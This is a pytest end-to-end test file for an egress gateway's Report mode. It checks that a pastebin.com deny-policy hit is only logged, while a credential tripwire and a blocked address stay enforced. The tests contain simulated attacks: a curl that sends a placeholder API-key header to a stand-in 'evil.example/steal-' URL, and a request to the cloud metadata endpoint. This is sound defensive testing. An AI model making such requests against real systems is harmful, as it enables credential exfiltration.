"""Report mode on L7 against `clrk up` (real Envoy, ext_proc, curl as the agent): a
deny-policy hit on an HTTP listener goes through and is recorded as reported, while the
credential tripwire and blocked addresses stay enforced whatever the mode."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from clrk_cli.demo.world import World
from tests.e2e.topology import leaks, snapshot

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root: network namespaces and iptables"),
]

REPO = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "PYTHONPATH": str(REPO)}
PLACEHOLDER = "clrk-placeholder-report-key"
WAIT = 30.0  # seconds: an upper bound for polls
POLICY = """\
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressGateway
metadata: {{name: trial}}
spec:
  mode: Report
  listeners:
  - {{name: web, protocol: HTTP, port: 80}}
  - {{name: tcp-out, protocol: TCP}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {{name: anthropic}}
spec:
  parentRefs: [{{name: trial, sectionName: web}}]
  rules: [{{matches: [{{destinationHostnames: [api.anthropic.com]}}]}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressCredential
metadata: {{name: anthropic-key}}
spec:
  targetRef: {{group: clrk.apoxy.dev, kind: EgressL4Route, name: anthropic}}
  header: x-api-key
  placeholder: {placeholder}
  source: {{file: {secret}}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {{name: paste}}
spec:
  parentRefs: [{{name: trial, sectionName: web}}]
  rules: [{{matches: [{{destinationHostnames: [pastebin.com]}}]}}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressDenyPolicy
metadata: {{name: no-paste}}
spec:
  targetRef: {{name: paste}}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: DaemonAgent
metadata: {{name: bot}}
spec: {{egressRefs: [{{gatewayRef: trial}}]}}
"""


def clrk(*args: str) -> list[str]:
    return [sys.executable, "-m", "clrk_cli", *args]


@pytest.fixture(scope="module")
def up(tmp_path_factory):
    work = tmp_path_factory.mktemp("report-l7")
    before = snapshot()
    secret_dir = work / "secrets"
    secret_dir.mkdir(mode=0o700)
    (secret_dir / "key").write_text("sk-report-" + uuid.uuid4().hex + "\n")
    manifests = work / "manifests"
    manifests.mkdir()
    (manifests / "policy.yaml").write_text(
        POLICY.format(placeholder=PLACEHOLDER, secret=secret_dir / "key")
    )
    state = work / "state"
    with World(work) as world:
        proc = world.start_in_host(
            clrk("up", "-f", str(manifests), "--state-dir", str(state),
                 "--upstream-ca", str(world.certs["ca"])),
            log=work / "up.log",
        )  # fmt: skip
        assert world.wait_line(proc, "clrk ready", 60), (work / "up.log").read_text()[-3000:]
        yield {"world": world, "state": state}
    assert not leaks(before, snapshot())


def curl(up, url: str, *headers: str) -> subprocess.CompletedProcess[str]:
    argv = ["curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}"]
    for header in headers:
        argv += ["-H", header]
    return subprocess.run(
        clrk("run", "--agent", "default/bot", "--state-dir", str(up["state"]), "--",
             *argv, url),
        capture_output=True, text=True, timeout=60, env=ENV,
    )  # fmt: skip


def denial(up, reason: str, marker: str) -> dict:
    """The one log record of `reason` whose name, address or path has `marker`."""
    deadline = time.monotonic() + WAIT
    while True:
        out = subprocess.run(
            clrk("records", "--state-dir", str(up["state"]), "--deny-reason", reason, "-o",
                 "json"),
            capture_output=True, text=True, env=ENV,
        )  # fmt: skip
        found = [
            r
            for line in out.stdout.splitlines()
            if marker in json.dumps((r := json.loads(line))["attributes"])
        ]
        if found or time.monotonic() > deadline:
            assert len(found) == 1, found
            return found[0]["attributes"]
        time.sleep(0.2)


def test_a_deny_policy_hit_on_an_http_listener_goes_through_and_is_reported(up):
    out = curl(up, "http://pastebin.com/")
    assert (out.returncode, out.stdout) == (0, "200"), out.stderr
    attrs = denial(up, "deny_policy", "pastebin.com")
    assert attrs["clrk.egress.enforced"] is False
    assert attrs["clrk.egress.deny_policy"] == "default/no-paste"


def test_the_credential_tripwire_is_enforced_in_report_mode(up):
    path = f"/steal-{uuid.uuid4().hex}"
    out = curl(up, f"http://evil.example{path}", f"x-api-key: {PLACEHOLDER}")
    assert out.stdout == "403", out.stderr
    attrs = denial(up, "credential_misuse", path)
    assert attrs["clrk.egress.enforced"] is True
    assert attrs["clrk.egress.credential"] == "default/anthropic-key"


def test_a_blocked_address_is_enforced_in_report_mode(up):
    out = curl(up, "http://169.254.169.254/latest/meta-data/")
    assert out.returncode in (7, 56) and out.stdout == "000", out.stderr
    attrs = denial(up, "blocked_address", "169.254.169.254")
    assert attrs["clrk.egress.enforced"] is True
